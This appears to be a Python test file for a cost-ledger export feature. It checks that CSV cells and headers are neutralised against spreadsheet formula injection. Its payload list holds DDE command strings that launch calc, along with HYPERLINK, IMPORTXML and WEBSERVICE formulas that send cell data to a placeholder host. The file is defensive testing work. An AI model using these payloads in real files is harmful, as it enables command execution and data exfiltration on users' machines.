"""T41: texts that a spreadsheet would run, in every text of a ledger row and in headers: neutral in CSV, whole elsewhere."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any, Final

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import csv as arrow_csv
from pyarrow import parquet
from starlette.testclient import TestClient
from surfaces_world import sighting

from otel_finops.genai.sighting import Sighting
from otel_finops.identity.principals import LOCAL
from otel_finops.ledger.journal import JournalRow, record
from otel_finops.ledger.rollups import Rollups
from otel_finops.ledger.settle import Settler
from otel_finops.operations.exports import ENTRY_COLUMNS
from otel_finops.operations.local import Room, open_room, upgrade_database
from otel_finops.operations.streams import Column
from otel_finops.settings import load
from otel_finops.store.lease import Leases
from otel_finops.surfaces.api.app import build_api
from otel_finops.surfaces.exports.cells import cells, harmless, harmless_json
from otel_finops.surfaces.exports.formats import Csv
from otel_finops.testing import NOON, FakeClock

PAYLOADS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\x0b=1", "=", "+", "-", "@", "-5", "+49 30 1234", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://x.example/?\"&A1,\"open\")", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"https://x.example/\",A1),\"//a\")", "=WEBSERVICE(\"https://x.example\")", "=1;=2;=3", "a;=1", "a,=1", "a\t=1",
    "a|=1", "a\n=1", "a\r\n=1", "a\",=1", "\"=1", "'=1", "\",\"=1+1\",\"", "a; -1", " =1", "   +1", "\u00a0=1", "\u200b=1", "\ufeff=1",
    "\u202e=1", "\x00=1", "\x1f=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe661", "\ufe631", "a;\uff1d1", "a\u2028=1",
    "\uff1b=1", "=1'", "==1", "--1", "a,\t ,=1", "{=1}", "%0A=1",
)  # fmt: skip
HARMLESS: Final = ("gpt-4o", "a-b", "a=b", "user@example.com", "1+1", "a - b", "x\u2212y", "", "text")
TEXTS: Final = ("agent", "step", "tool", "workflow", "user", "session", "cost_center", "purpose", "service", "environment")
SIGNS: Final = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
NUMBER: Final = re.compile(r"-?\d+(\.\d+)?")


def unseen(letter: str) -> bool:
    return letter.isspace() or unicodedata.category(letter) in ("Cc", "Cf")


def is_active(cell: str) -> bool:
    """Whether a spreadsheet might run it: a sign is the first thing that is seen, quotation marks that a reader strips left out."""
    seen = cell
    while seen and (unseen(seen[0]) or seen[0] == '"'):
        seen = seen[1:]
    return seen[:1] in tuple(SIGNS) and not NUMBER.fullmatch(seen)


def readings(text: str) -> Iterator[list[str]]:
    """The cells as readers take them that agree on the separator with the writer, and that do not, with quoting and without."""
    for separator in ",;\t|":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            yield from csv.reader(io.StringIO(text.replace("\0", ""), newline=""), delimiter=separator, quoting=quoting)
    for line in re.split("[\r\n\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", text):
        yield re.split("[,;\t|]", line)


@pytest.fixture(scope="module")
def room(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Room]:
    """A call for every payload, which stands in all its texts; later versions take tokens back, so there are negative amounts."""
    settings = load(None, {"OTEL_FINOPS_DATABASE__URL": f"sqlite:///{tmp_path_factory.mktemp('formulas')}/ledger.db"})
    clock = FakeClock()
    upgrade_database(settings, clock)
    with open_room(settings, clock=clock) as room:
        engine = room.prices()
        for tokens, end_ns in ((1000, NOON + 10**9), (400, NOON + 2 * 10**9)):
            calls = [_call(number, text, tokens, end_ns) for number, text in enumerate((*PAYLOADS, *HARMLESS), 1)]
            with room.store.write() as transaction:
                rows = [JournalRow(one, engine.quote(engine.priceable(one))) for one in calls]
                record(transaction, rows, now_ns=clock.now_ns(), settle_after_ns=0, subjects=room.subjects)
            clock.advance(10)
            Settler(room.store, Leases(room.store, clock, "test"), engine, [Rollups()], clock, sleep=clock.advance).settle_all()
        yield room


def _call(number: int, text: str, tokens: int, end_ns: int) -> Sighting:
    said = {**dict.fromkeys(TEXTS, text), "tenant": "acme"}
    tags = {"ticket": text, text: "1"}
    call = sighting(f"{number:032x}", number, None, attribution=said, tags=tags, usage={"input_uncached": tokens, "output": 100})
    return call._replace(request_model=text, end_ns=end_ns)


def exported(room: Room, form: str) -> bytes:
    answer = TestClient(build_api(room.context, lambda _: LOCAL)).get(f"/api/v1/usage/export?subjects=true&format={form}")
    assert answer.status_code == 200
    return answer.content


def test_forty_payloads_and_more_are_active_unless_they_are_guarded() -> None:
    def raw(text: str) -> str:
        line = io.StringIO(newline="")
        csv.writer(line).writerow(["a", text, "b"])
        return line.getvalue()

    assert sum(any(is_active(cell) for row in readings(raw(text)) for cell in row) for text in set(PAYLOADS)) >= 40


def test_no_cell_is_active_however_the_file_is_read(room: Room) -> None:
    text = exported(room, "csv").decode()
    read = [(cell, row) for row in readings(text) for cell in row]
    active = [cell for cell, _ in read if is_active(cell)]
    print(f"{len(PAYLOADS)} payloads, {len(read)} cells in 9 readings, {len(active)} active")
    assert len(read) > 10_000
    assert active == []


def test_amounts_are_numbers_and_some_are_negative(room: Room) -> None:
    """1,000 tokens at 2.50 and 100 at 10 USD a million: 0.0035; 400 and 100: 0.002. A reversal takes the first back."""
    rows = list(csv.DictReader(io.StringIO(exported(room, "csv").decode(), newline="")))
    numeric = [column.name for column in ENTRY_COLUMNS if column.kind in ("money", "integer", "number")]
    assert all(NUMBER.fullmatch(row[name]) for row in rows for name in numeric if row[name])
    amounts = [Decimal(row["cost_usd"]) for row in rows]
    calls = len(PAYLOADS) + len(HARMLESS)
    assert [amounts.count(Decimal(amount)) for amount in ("0.0035", "-0.0035", "0.002")] == [calls] * 3
    assert sum(amounts) == calls * Decimal("0.002")


def test_another_reader_takes_amounts_for_numbers_too(room: Room) -> None:
    table = arrow_csv.read_csv(io.BytesIO(exported(room, "csv")), parse_options=arrow_csv.ParseOptions(newlines_in_values=True))
    assert table.num_rows == 3 * (len(PAYLOADS) + len(HARMLESS))
    kinds = {name: table.schema.field(name).type for name in ("cost_usd", "usage.input_uncached", "duration_ms", "agent")}
    assert kinds == {"cost_usd": pa.float64(), "usage.input_uncached": pa.int64(), "duration_ms": pa.float64(), "agent": pa.string()}


def test_harmless_texts_are_left_as_they_are() -> None:
    assert [harmless(text) for text in HARMLESS] == list(HARMLESS)
    assert cells("money", ["-0.0035", "12", None]) == ["-0.0035", "12", None]
    assert cells("money", ["-1+1"]) == ["'-1+1"]


def test_an_apostrophe_stands_where_a_cell_could_begin() -> None:
    assert harmless("=1+1") == "'=1+1"
    assert harmless("a;=1, -2") == "a;'=1, '-2"
    assert harmless("\t=1") == "'\t'=1"
    assert harmless("\u200b\uff1d1") == "\u200b'\uff1d1"


def test_json_cells_read_as_the_same_value(room: Room) -> None:
    rows = list(csv.DictReader(io.StringIO(exported(room, "csv").decode(), newline="")))
    assert {json.loads(row["tags"])["ticket"] for row in rows} == {*PAYLOADS, *HARMLESS}
    assert json.loads(harmless_json({"=k": ["-1", -1, 'a";=1'], "n": -2})) == {"=k": ["-1", -1, 'a";=1'], "n": -2}


@pytest.mark.parametrize("form", ["jsonl", "parquet"])
def test_other_formats_hold_the_texts_themselves(room: Room, form: str, tmp_path: Path) -> None:
    content = exported(room, form)
    if form == "jsonl":
        rows: list[dict[str, Any]] = [json.loads(line) for line in content.split(b"\n") if line]
    else:
        (tmp_path / "rows").write_bytes(content)
        rows = parquet.read_table(tmp_path / "rows").to_pylist()
    for name in ("agent", "step", "request_model"):
        assert {row[name] for row in rows} == {*PAYLOADS, *HARMLESS}


@pytest.mark.parametrize("text", [*PAYLOADS, *HARMLESS])
def test_headers_are_harmless_too(text: str) -> None:
    header = Csv([Column(text, "text", ("a",)), Column("b", "money", ("b",))]).begin().decode()
    assert not any(is_active(cell) for row in readings(header) for cell in row)


@given(st.text(st.sampled_from("=+-@;,|\t\r\n\"' a1\u200b\uff1d"), max_size=12))
def test_no_text_at_all_is_active(text: str) -> None:
    written = Csv([Column("a", "text", ("a",)), Column("b", "json", ("a",))]).rows([{"a": text}]).decode()
    assert not any(is_active(cell) for row in readings(written) for cell in row)
    [[_, as_json]] = csv.reader(io.StringIO(written, newline=""))
    assert json.loads(as_json) == text
